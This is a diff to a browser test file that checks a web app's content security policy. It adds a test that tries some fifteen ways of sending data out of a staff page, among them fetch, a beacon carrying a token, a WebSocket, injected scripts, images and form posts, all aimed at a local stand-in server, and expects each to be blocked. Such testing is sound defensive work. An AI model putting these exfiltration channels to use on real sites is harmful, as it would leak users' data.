@@ -1,3 +1,6 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { expect, test } from './fixtures.ts';
 
 /** Each tries to set `window.attacked`, in another place of a page. */
@@ -91,4 +94,66 @@ test('thirty payloads in every text of a client, a piece, a job and an invoice r
     expect([path, await staff.evaluate(() => 'attacked' in window)]).toEqual([path, false]);
   }
   expect(blocked).toEqual([]);
+});
+
+test('code that got in sends nothing to another house, and makes none of text', async ({
+  staff,
+}) => {
+  const arrived: string[] = [];
+  const sink = createServer((request, response) => {
+    arrived.push(request.url ?? '');
+    response.end();
+  });
+  sink.on('upgrade', (request) => arrived.push(request.url ?? ''));
+  await once(sink.listen(0, '127.0.0.1'), 'listening');
+  const { port } = sink.address() as AddressInfo;
+  await staff.goto('/clients');
+  await expect(staff.getByRole('heading', { level: 1 }).first()).toBeVisible();
+  const refused = await staff.evaluate(async (there) => {
+    const made = (name: string, values: object) =>
+      document.body.append(Object.assign(document.createElement(name), values));
+    const sends: Record<string, () => unknown> = {
+      fetch: () => fetch(`${there}/fetch`, { mode: 'no-cors' }),
+      beacon: () => navigator.sendBeacon(`${there}/beacon`, 'token'),
+      request: () => {
+        const request = new XMLHttpRequest();
+        request.open('GET', `${there}/request`);
+        request.send();
+      },
+      socket: () => new WebSocket(`${there.replace('http', 'ws')}/socket`),
+      events: () => new EventSource(`${there}/events`),
+      picture: () => made('img', { src: `${there}/picture` }),
+      background: () => (document.body.style.backgroundImage = `url(${there}/background)`),
+      script: () => made('script', { src: `${there}/script` }),
+      sheet: () => made('link', { rel: 'stylesheet', href: `${there}/sheet` }),
+      prefetch: () => made('link', { rel: 'prefetch', href: `${there}/prefetch` }),
+      frame: () => made('iframe', { src: `${there}/frame` }),
+      sound: () => made('audio', { src: `${there}/sound`, autoplay: true }),
+      form: () => {
+        const form = Object.assign(document.createElement('form'), { action: `${there}/form` });
+        document.body.append(form);
+        form.submit();
+      },
+      html: () => (document.body.innerHTML = '<b>text</b>'),
+      code: () => made('script', { textContent: 'window.attacked = 1' }),
+    };
+    const thrown: string[] = [];
+    for (const [name, send] of Object.entries(sends)) {
+      try {
+        await send();
+      } catch {
+        thrown.push(name);
+      }
+    }
+    return thrown;
+  }, `http://127.0.0.1:${port}`);
+  expect(refused).toEqual(expect.arrayContaining(['fetch', 'html', 'code']));
+  // As long as something would need to arrive from the same machine.
+  await staff.waitForTimeout(500);
+  expect(arrived).toEqual([]);
+  expect(await staff.evaluate(() => 'attacked' in window)).toBe(false);
+  // What no policy forbids: it leaves the page, for all to see.
+  await staff.goto(`http://127.0.0.1:${port}/left`);
+  expect(arrived).toContain('/left');
+  sink.close();
 });
